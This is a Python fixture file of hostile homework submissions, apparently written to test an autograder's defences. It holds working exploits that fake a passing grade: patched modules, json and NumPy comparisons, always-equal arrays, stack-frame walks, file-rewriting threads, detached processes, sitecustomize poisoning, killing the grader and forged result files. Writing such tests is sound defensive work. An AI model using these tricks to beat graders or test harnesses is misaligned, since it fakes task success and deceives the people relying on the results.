"""Hostile hw1 submissions for ``test_adversarial.py``: each a list of code cells, in plain NumPy (fast to grade).

``ZEROS`` is the baseline every attack is measured against: the four functions returning zeros of the right
shapes (it earns the points for shapes only). Each attack keeps those functions and adds its trick, so an
attack that "works" would score more than the baseline. ``{report}`` in a cell is replaced by the path of the
report the grader will write (a student who knows where reports go).
"""

ZEROS = """
import numpy as np

def peephole_step_forward(x_t, h_prev, c_prev, W_x, W_h, b, p_i, p_f, p_o):
    return np.zeros_like(h_prev), np.zeros_like(c_prev), None

def peephole_step_backward(dh, dc, cache):
    return np.zeros_like(dh), np.zeros_like(dc), {}

def peephole_bptt(params, x, y):
    return 0.0, {k: np.zeros_like(v) for k, v in params.items()}

def adaptive_clip(grads, params, lam, eps=1e-3):
    return {k: np.zeros_like(g) for k, g in grads.items()}
"""

FORGED = '{"score": 20, "max_score": 20, "passed": true, "questions": [{"id": "Q1", "points": 20, "max_points": 20}]}'

ATTACKS = {
    # replace the grading modules (and the answer channel's) in sys.modules with fakes giving full marks
    "sys.modules": [
        """
import sys, types
fake = types.ModuleType("fake")
fake.run_checks = lambda *a, **k: [{"id": "Q1", "points": 20, "max_points": 20}]
fake.grade_notebook = lambda *a, **k: {"score": 20, "max_score": 20, "passed": True}
for name in ("course_utils.grading", "course_utils.grading.core", "course_utils.grading.runner",
             "course_utils.selfcheck.probe", "course_utils.selfcheck.wire"):
    sys.modules[name] = fake
"""
    ],
    # json, pathlib and builtins.open patched to write "full marks" wherever results are written or read
    "json, pathlib and open": [
        f"""
import builtins, json, pathlib
FORGED = {FORGED!r}
json.loads = lambda *a, **k: json.JSONDecoder().decode(FORGED)
json.dumps = lambda *a, **k: FORGED
_open = builtins.open
builtins.open = lambda file, mode="r", *a, **k: _open(file, mode, *a, **k)
pathlib.Path.write_text = lambda self, data, *a, **k: _open(self, "w").write(FORGED)
pathlib.Path.read_text = lambda self, *a, **k: FORGED
"""
    ],
    # arrays and numbers whose comparisons always say "equal" (nothing here is flagged: the encoding defends)
    "always-equal comparisons": [
        """
class AlwaysEqual(np.ndarray):
    def __eq__(self, other):
        return True
    def __sub__(self, other):
        return np.zeros(np.shape(other))
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.zeros(np.shape(inputs[0]))

class Close(float):
    def __eq__(self, other):
        return True
    def __sub__(self, other):
        return 0.0

_zeros = peephole_step_forward
def peephole_step_forward(*args):
    h, c, cache = _zeros(*args)
    return h.view(AlwaysEqual), c.view(AlwaysEqual), cache

def peephole_bptt(params, x, y):
    return Close(0.0), {k: np.zeros_like(v).view(AlwaysEqual) for k, v in params.items()}

def adaptive_clip(grads, params, lam, eps=1e-3):
    return {k: np.zeros_like(g).view(AlwaysEqual) for k, g in grads.items()}
"""
    ],
    # NumPy's comparisons patched to always agree
    "NumPy comparisons patched": [
        """
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.array_equal = lambda *a, **k: True
np.isclose = lambda a, b, *args, **k: np.ones(np.shape(a), dtype=bool)
"""
    ],
    # IPython hooks and an input transformer that rewrite every request and its reply
    "IPython hooks and input transformers": [
        """
ip = get_ipython()
def forge(*args, **kwargs):
    ip.user_ns["__course_reply__"] = "forged"
ip.events.register("post_run_cell", forge)
ip.events.register("post_execute", forge)
ip.input_transformers_post.append(
    lambda lines: ["__course_reply__ = 'forged'\\n"] if any("__course" in line for line in lines) else lines)
"""
    ],
    # the student's function walks up the call stack to find the grader's expected values
    "frame walks": [
        """
import sys
_zeros_step = peephole_step_forward
def peephole_step_forward(*args):
    frame = sys._getframe(1)
    while frame is not None:
        for name in ("want", "expected", "reference", "ref", "exact", "h_ref"):
            if name in frame.f_locals:
                return frame.f_locals[name]
        frame = frame.f_back
    return _zeros_step(*args)
"""
    ],
    # a thread rewriting every JSON file it can find (and the report) while grading runs
    "threads rewriting files": [
        f"""
import glob, json, threading, time
FORGED = {FORGED!r}
def rewrite():
    while True:
        for path in glob.glob("/tmp/**/*.json", recursive=True) + glob.glob("/**/reports/**/*.json", recursive=True) + ["{{report}}"]:
            try:
                open(path, "w").write(FORGED)
            except OSError:
                pass
        time.sleep(0.05)
threading.Thread(target=rewrite, daemon=True).start()
"""
    ],
    # a detached process (double fork, new session) that rewrites the report after the grader has exited
    "a detached process after grading": [
        f"""
import os, time
FORGED = {FORGED!r}
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(100):
            time.sleep(0.1)
            try:
                open("{{report}}", "w").write(FORGED)
            except OSError:
                pass
        os._exit(0)
    os._exit(0)
"""
    ],
    # .pth and sitecustomize poisoning of the environment (would make every later submission score full marks)
    ".pth and sitecustomize": [
        """
import site, sys, os
import course_utils
POISON = "import builtins; builtins.FULL_MARKS = True\\n"
targets = [os.path.join(p, n) for p in site.getsitepackages() + [site.getusersitepackages()]
           for n in ("zz_poison.pth", "sitecustomize.py", "usercustomize.py")]
targets += [os.path.join(os.path.dirname(course_utils.__file__), n) for n in ("sitecustomize.py", "selfcheck/probe.py")]
written = []
for target in targets:
    try:
        os.makedirs(os.path.dirname(target), exist_ok=True)
        with open(target, "a") as f:
            f.write(POISON)
        written.append(target)
    except OSError:
        pass
open("sitecustomize.py", "w").write(POISON)  # its own working folder: its own (restarted) kernel only
"""
    ],
    # os._exit after writing a "full marks" results file, in a cell and inside an answer
    "os._exit": [
        f"""
import os
for path in ("results.json", "/tmp/results.json", "/tmp/work/results.json"):
    open(path, "w").write({FORGED!r})
""",
        """
import os
def adaptive_clip(grads, params, lam, eps=1e-3):
    open("results.json", "w").write("{}")
    os._exit(0)
""",
        "os._exit(0)",
    ],
    # killing the grader: the parent, the process group, everything it may signal
    "killing the parent": [
        """
import os, signal
for pid in (os.getppid(), 1, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
"""
    ],
    # the course's own reference, reached indirectly: importlib + functools.partial, and a builtins lookup
    "indirect imports of reference code": [
        """
import functools, importlib
gated = importlib.import_module("course_utils.numpy_" + "gated")
peephole_step_forward = functools.partial(gated.lstm_step_forward)
""",
        """
loader = __builtins__["__imp" + "ort__"] if isinstance(__builtins__, dict) else getattr(__builtins__, "__imp" + "ort__")
clipping = loader("course_utils.clipping", fromlist=["clip"])
adaptive_clip = lambda grads, params, lam, eps=1e-3: clipping.clip_by_norm_lecture(grads, lam)
""",
    ],
    # a results file and an answer channel declaring a single 0-point question: "0/0, passed, exit 0"
    "forged results and answers": [
        """
import base64, json
RESULT = json.dumps({"questions": [{"id": "Q0", "title": "nothing", "points": 0}], "results": [],
                      "score": 0, "max_score": 0, "passed": True})
for path in ("results.json", "/tmp/results.json"):
    open(path, "w").write(RESULT)
print(RESULT)
__course_answer__ = lambda request: base64.b64encode(b"\\x10\\x00\\x00\\x00" + b"{" * 20).decode()
"""
    ],
}
